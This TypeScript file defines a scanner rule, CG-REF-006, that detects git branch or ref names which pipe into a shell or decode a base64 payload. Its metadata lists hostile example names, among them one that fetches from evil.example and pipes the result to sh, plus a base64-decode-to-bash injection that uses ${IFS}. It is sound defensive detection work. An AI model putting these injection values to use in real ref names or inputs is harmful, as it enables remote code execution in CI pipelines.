// CG-REF-006: pipe to an interpreter or decoder (| bash, | python, base64 -d).
import type {RuleMeta} from '../../report/rule-meta.js'
import type {Hit, NameRule} from '../types.js'
import {PIPE_INTERPRETER} from './patterns.js'

export const meta: RuleMeta = {
  id: 'CG-REF-006',
  title: 'Pipe to interpreter or decoder in a ref name',
  severity: 'critical',
  description: `The name pipes into a shell or interpreter (|bash, |sh, |python, |node, |iex) or decodes a hidden payload (base64 -d), with spaces or \${IFS} between the words — the download-and-run step of every known branch-name attack.`,
  remediation: 'delete the ref, then audit the workflows that ran on it (caches, tokens, published artifacts)',
  example: {bad: `main$(echo\${IFS}Y3VybC4uLg==|base64\${IFS}-d|bash)`, good: 'bash-completion/fix'},
  examples: {
    flagged: [`main$(echo\${IFS}Y3VybC4uLg==|base64\${IFS}-d|bash)`, `x;curl\${IFS}evil.example/p|sh`],
    clean: ['bash-completion/fix', 'feature/sh-support'],
  },
}

export const rule: NameRule = {
  meta,
  check(name: string): Hit[] {
    const match = PIPE_INTERPRETER.exec(name)
    return match ? [{message: `"${match[0].slice(0, 40)}" pipes into an interpreter or decodes a payload`}] : []
  },
}
